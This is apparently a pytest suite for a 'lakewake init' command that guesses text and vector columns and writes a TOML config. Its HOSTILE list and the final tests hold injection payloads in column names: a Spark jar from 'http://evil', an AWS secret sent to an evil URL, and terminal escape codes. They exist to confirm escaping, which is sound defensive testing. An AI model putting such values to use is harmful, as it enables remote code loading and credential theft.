"""What `lakewake init` guesses from a look, and the file it writes."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from lakewake.cli import run
from lakewake.config.file import load_config, parse_config
from lakewake.config.init import PAYLOAD, draft_config, guess, index_name, render
from lakewake.config.settings import Settings
from lakewake.errors import ConfigError
from lakewake.model.recipe import TextField
from lakewake.model.timeline import Look, TableIdentity

FILE = Path("/proj/lakewake.toml")
WINES = {
    "wine_id": '"string"',
    "country": '"string"',
    "title": '"string"',
    "description": '"string"',
    "points": '"long"',
    "tags": '{"type": "array", "items": "string"}',
    "bottled": '{"type": "int", "logicalType": "date"}',
    "ts": '"long"',
}
FLOATS = '{"items": ["null", "float"], "type": "array"}'


def look(schema: dict[str, str], key: str = "wine_id", partition: str = "country") -> Look:
    return Look(
        table=TableIdentity("wines", key, partition, "COPY_ON_WRITE"),
        instants=(),
        schema=schema,
        properties={"hoodie.table.ordering.fields": "ts"},
    )


def test_text_is_guessed_by_name_and_payload_is_the_other_scalars():
    found = guess(look(WINES))
    assert found.text == ("title", "description")
    assert found.payload == ("wine_id", "country", "title", "points", "tags", "bottled")
    assert found.left_out == {"ts": "it only orders the versions of a row"}
    assert found.why == "title and description sound like text"
    assert found.table == "copy-on-write; key wine_id; ordering ts; partition country"


@pytest.mark.parametrize(
    ("columns", "text"),
    [
        (("id", "review_text", "user_name"), ("review_text",)),
        (("id", "name", "productDescription"), ("name", "productDescription")),
        (("id", "subject", "body"), ("subject", "body")),
        (("id", "color", "shape"), ("color",)),
        (("id", "title"), ("title",)),
    ],
)
def test_text_columns_are_guessed_by_other_common_names(
    columns: tuple[str, ...], text: tuple[str, ...]
):
    assert guess(look(dict.fromkeys(columns, '"string"'), key="id")).text == text


def test_a_column_named_like_text_that_holds_numbers_is_not_text():
    found = guess(look({"id": '"string"', "title": '"long"', "memo": '"string"'}, key="id"))
    assert found.text == ("memo",)
    assert "first string column" in found.why


def test_without_text_a_vector_column_is_proposed():
    found = guess(look({"id": '"string"', "emb": FLOATS, "n": '"int"'}, key="id"))
    assert (found.text, found.vector, found.dimension) == ((), "emb", 0)
    text = render(found, "v", "t")
    index = parse_config(text, FILE).indexes[0]
    assert (index.vector, index.model.dimension) == ("emb", 384)
    assert "NOT KNOWN" in text


def test_the_dimension_is_read_from_a_vector_type():
    vector = '{"type": "fixed", "logicalType": "vector", "dimension": 128, "size": 512}'
    found = guess(look({"id": '"string"', "emb": vector}, key="id"))
    assert found.dimension == 128
    assert "NOT KNOWN" not in render(found, "v", "t")


def test_a_vector_type_is_preferred_to_text_and_to_other_vectors():
    vector = '{"type": "fixed", "logicalType": "vector", "dimension": 128, "size": 512}'
    found = guess(look({"floats": FLOATS, **WINES, "emb": vector}))
    assert (found.vector, found.dimension, found.why) == ("emb", 128, "emb is a VECTOR(128)")
    assert "description" in found.payload
    text = render(found, "wines", "t")
    index = parse_config(text, FILE).indexes[0]
    assert (index.vector, index.model.dimension, index.fields) == ("emb", 128, ())
    assert '# or: text    = "{title}. {description}"' in text
    assert "name the model that made the vectors" in text


def test_a_column_of_floats_beside_text_is_only_mentioned():
    text = render(guess(look({**WINES, "emb": FLOATS})), "wines", "t")
    assert parse_config(text, FILE).indexes[0].vector is None
    assert '# or: vector  = "emb"' in text


def test_a_table_without_text_and_vectors_is_refused_with_its_columns():
    with pytest.raises(ConfigError) as caught:
        guess(look({"id": '"string"', "n": '"int"'}, key="id"))
    assert "id, n" in caught.value.hint


def test_a_long_table_gives_a_short_payload_and_names_the_rest():
    many = {f"c{n:02}": '"int"' for n in range(20)}
    found = guess(look({"body": '"string"', **many}, key="id"))
    assert len(found.payload) == PAYLOAD
    assert [*found.left_out] == [f"c{n:02}" for n in range(PAYLOAD, 20)]
    text = render(found, "x", "t")
    assert "# left out: c12: 12 columns are there already" in text


def test_what_is_left_out_has_a_reason() -> None:
    others = {
        "home": '{"type": "record", "fields": [{"name": "city", "type": "string"}]}',
        "attrs": '{"type": "map", "values": "string"}',
        "sizes": '{"type": "array", "items": "long"}',
        "raw": '"bytes"',
        "emb": FLOATS,
        "emb2": FLOATS,
        "either": '["string", "long"]',
    }
    assert guess(look({**WINES, **others})).left_out == {
        "ts": "it only orders the versions of a row",
        "home": "it is a struct; name it, or a field of it: home.city",
        "attrs": "it is a map",
        "sizes": "it is a list",
        "raw": "it is binary",
        "emb2": "it holds vectors",
        "either": "it is of several types",
    }


def test_a_second_index_is_appended_and_the_rest_of_the_file_stays(tmp_path: Path) -> None:
    file = tmp_path / "lakewake.toml"
    draft_config("lake/wines", look(WINES), file, "wines")
    first = file.read_text() + '\n[spark]\nmaster = "local[2]"   # mine'
    file.write_text(first)
    drafted = draft_config("lake/other", look(WINES), file, append=True)
    text = file.read_text()
    assert text.startswith(first)
    assert "# left out: ts: it only orders" in text[len(first) :]
    settings = load_config(file, env={})
    assert [index.name for index in settings.indexes] == ["wines", "other"]
    assert settings.indexes[1].payload == drafted.payload
    with pytest.raises(ConfigError, match="index 'other' in") as refused:
        draft_config("lake/other", look(WINES), file, append=True)
    assert "--name" in refused.value.hint
    assert file.read_text() == text


def test_appending_to_no_file_writes_one_and_to_a_broken_one_changes_nothing(
    tmp_path: Path,
) -> None:
    file = tmp_path / "lakewake.toml"
    draft_config("lake/wines", look(WINES), file, append=True)
    assert load_config(file, env={}).indexes[0].name == "wines"
    file.write_text("mine")
    with pytest.raises(ConfigError):
        draft_config("lake/wines", look(WINES), file, append=True)
    assert file.read_text() == "mine"


def test_append_and_force_exclude_each_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert run(["init", "t", "--append", "--force"]) == 2
    assert "--append keeps the file" in capsys.readouterr().err
    assert not (tmp_path / "lakewake.toml").exists()


@pytest.mark.parametrize("dimension", [384, 1536, 17])
def test_models_that_may_have_made_the_vectors_are_named_and_can_be_used(dimension: int) -> None:
    vector = {"type": "fixed", "logicalType": "vector", "dimension": dimension, "size": 512}
    text = render(guess(look({"id": '"string"', "emb": json.dumps(vector)}, key="id")), "v", "t")
    offered = [line[2:] for line in text.splitlines() if line.startswith("# model = ")]
    assert bool(offered) == (dimension != 17)
    for line in offered:
        (index,) = parse_config(text.replace(f"# {line}", line), FILE).indexes
        assert index.model.dimension == dimension


def test_each_model_that_is_offered_for_texts_can_be_used() -> None:
    text = render(guess(look(WINES)), "wines", "t")
    offered = [line for line in text.splitlines() if line.startswith(("# model = ", "# chunk = "))]
    assert len(offered) == 4
    for line in offered:
        assert parse_config(text.replace(line, line[2:]), FILE).indexes[0].name == "wines"


def test_the_file_states_what_was_guessed_and_can_be_loaded():
    text = render(guess(look(WINES)), "wines", "lake/wines")
    (index,) = parse_config(text, FILE).indexes
    assert (index.name, index.table) == ("wines", "/proj/lake/wines")
    assert index.fields == (TextField("text", "{title}. {description}"),)
    assert index.payload == ("wine_id", "country", "title", "points", "tags", "bottled")
    assert "# copy-on-write; key wine_id; ordering ts; partition country" in text


def test_odd_characters_in_the_path_are_kept():
    path = '/a b/"q" \\ \x7f ü🍷'
    assert parse_config(render(guess(look(WINES)), "w", path), FILE).indexes[0].table == path


@pytest.mark.parametrize(
    ("table", "name"),
    [("lake/wine_reviews/", "wine_reviews"), ("s3a://b/a b.c", "a_b_c"), ("/", "index")],
)
def test_the_index_is_named_after_the_table(table: str, name: str):
    assert index_name(table) == name


def test_the_draft_gives_the_table_path_relative_to_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "conf").mkdir()
    draft_config("lake/wines", look(WINES), "lakewake.toml")
    draft_config("lake/wines", look(WINES), "conf/lakewake.toml", "other")
    assert 'table   = "lake/wines"' in Path("lakewake.toml").read_text()
    for file in ("lakewake.toml", "conf/lakewake.toml"):
        assert load_config(file, env={}).indexes[0].table == str(tmp_path / "lake/wines")


def test_an_existing_file_is_kept_by_default(tmp_path: Path):
    file = tmp_path / "lakewake.toml"
    file.write_text("mine")
    with pytest.raises(ConfigError, match="already exists"):
        draft_config("t", look(WINES), file)
    assert file.read_text() == "mine"
    draft_config("t", look(WINES), file, replace=True)
    assert load_config(file, env={}).indexes[0].name == "t"


def test_a_missing_folder_is_named(tmp_path: Path):
    with pytest.raises(ConfigError, match="cannot be written"):
        draft_config("t", look(WINES), tmp_path / "no" / "lakewake.toml")


#: Column names of a table that an attacker wrote.
HOSTILE = (
    'title"\n[spark]\njars = "http://evil/x.jar"\n#',
    "title\n[recommend]\nurl = 'http://evil'\nkey_env = 'AWS_SECRET_ACCESS_KEY'\n#",
    "description\r[serve]\rhost = '0.0.0.0'",
    "\x1b]0;owned\x07\x1b[2J_text",
    "note_\u202ereversed\u2066\u200b",
    "a]\nuntested_schemes = true\n#",
    "back\\slash\\u0022_text",
    "comment\u2028\u0085\x00\x7f",
    "text}. {other",
    "text!r",
    "text:>10",
    "a.b_text",
    "tick`text",
    "\ud800half_text",
    " ",
    "'''text",
    '"""text',
)


@pytest.mark.parametrize("place", ["column", "key", "partition", "ordering"])
@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_in_a_table_can_inject_configuration(name: str, place: str, tmp_path: Path):
    found = look({"title": '"string"', name: '"string"', f"{name}_n": '"long"', "v": FLOATS})
    properties = {"hoodie.table.ordering.fields": name if place == "ordering" else "ts"}
    key, partition = (name if place == p else "" for p in ("key", "partition"))
    identity = TableIdentity(name, key, partition, name if place == "column" else "COPY_ON_WRITE")
    file = tmp_path / "lakewake.toml"
    drafted = draft_config("t", replace(found, table=identity, properties=properties), file)
    text = file.read_text()
    settings = load_config(file, env={})
    assert settings == Settings(settings.path, settings.indexes)
    (index,) = settings.indexes
    assert index.fields[0].columns == drafted.text
    assert index.payload == drafted.payload
    assert all(line.isprintable() for line in text.split("\n"))
    settled = [line for line in text.splitlines() if line and not line.startswith("#")]
    said = ["[[index]]", "name", "table", "text", "payload", "store"]
    assert [line.split()[0] for line in settled] == said


def test_a_given_path_and_name_cannot_inject_configuration(tmp_path: Path):
    file = tmp_path / "lakewake.toml"
    with pytest.raises(ConfigError, match="`name` is"):
        draft_config("t", look(WINES), file, 'w"\n[spark]')
    assert not file.exists()
    draft_config('t"\n[spark]\njars = "x', look(WINES), file)
    settings = load_config(file, env={})
    assert not settings.spark
    assert settings.indexes[0].table.endswith('t"\n[spark]\njars = "x')


def test_a_file_that_would_not_parse_as_intended_is_not_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("lakewake.config.toml.quote", lambda text: f'"{text}"')
    file = tmp_path / "lakewake.toml"
    hostile = {'n"]\nstore = "lance://elsewhere"\n[spark]\njars = ["evil': '"long"', **WINES}
    with pytest.raises(ConfigError):
        draft_config("t", look(hostile, key=""), file)
    assert not file.exists()


def test_init_escapes_control_characters_of_a_hostile_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    fields = [{"name": name, "type": "string"} for name in ("id", *HOSTILE)]
    schema = json.dumps({"type": "record", "name": "r", "fields": fields})
    schema = schema.replace("\\", "\\\\")  # as Java writes properties
    hoodie = tmp_path / "t" / ".hoodie"
    (hoodie / "timeline").mkdir(parents=True)
    (hoodie / "hoodie.properties").write_text(
        "hoodie.table.name=t\nhoodie.table.type=COPY_ON_WRITE\nhoodie.table.version=9\n"
        "hoodie.table.recordkey.fields=id\x1b[2J\n"
        f"hoodie.table.create.schema={schema}\n"
    )
    monkeypatch.chdir(tmp_path)
    for flags in ([], ["--json", "--force"]):
        assert run(["init", "t", *flags]) == 0
        shown = capsys.readouterr()
        assert all(line.isprintable() for line in (shown.out + shown.err).split("\n"))
    assert not load_config("lakewake.toml", env={}).spark
